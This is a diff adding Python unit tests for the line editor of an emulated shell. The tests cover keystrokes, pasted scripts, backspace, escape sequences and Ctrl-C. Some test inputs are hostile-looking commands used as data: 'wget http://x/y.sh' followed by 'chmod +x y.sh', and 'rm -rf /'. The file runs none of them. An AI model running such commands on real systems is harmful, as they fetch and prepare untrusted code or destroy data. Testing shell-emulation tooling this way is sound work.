@@ -0,0 +1,49 @@
+import unittest
+
+from emulated_shell.line_editor import LineEditor
+
+
+class TestLineEditor(unittest.TestCase):
+
+    def setUp(self):
+        self.editor = LineEditor()
+
+    def test_keystrokes(self):
+        segments = []
+        for byte in b"ls\r":
+            segments.extend(self.editor.feed(bytes([byte])))
+
+        self.assertEqual(segments, [(b"l", None), (b"s", None), (b"\r\n", "ls")])
+
+    def test_pasted_script(self):
+        segments = self.editor.feed(b"cd /tmp\r\nwget http://x/y.sh\nchmod +x y.sh\rpart")
+
+        self.assertEqual(segments, [
+            (b"cd /tmp\r\n", "cd /tmp"),
+            (b"wget http://x/y.sh\r\n", "wget http://x/y.sh"),
+            (b"chmod +x y.sh\r\n", "chmod +x y.sh"),
+            (b"part", None),
+        ])
+        self.assertEqual(self.editor.feed(b"ial\r"), [(b"ial\r\n", "partial")])
+
+    def test_backspace_and_utf8(self):
+        segments = self.editor.feed("lsé\x7f\x7f\x7fpwd\r".encode())
+
+        self.assertEqual(segments[-1][1], "pwd")
+        self.assertEqual(segments[0][0].count(b"\b \b"), 3)
+
+    def test_escape_sequences_split_across_chunks(self):
+        self.editor.feed(b"ls\x1b[")
+        self.editor.feed(b"1;5")
+        segments = self.editor.feed(b"A -la\x1bOB\r")
+
+        self.assertEqual(segments[-1][1], "ls -la")
+
+    def test_ctrl_c_discards_line(self):
+        segments = self.editor.feed(b"rm -rf /\x03")
+
+        self.assertEqual(segments, [(b"rm -rf /^C\r\n", "")])
+
+
+if __name__ == '__main__':
+    unittest.main()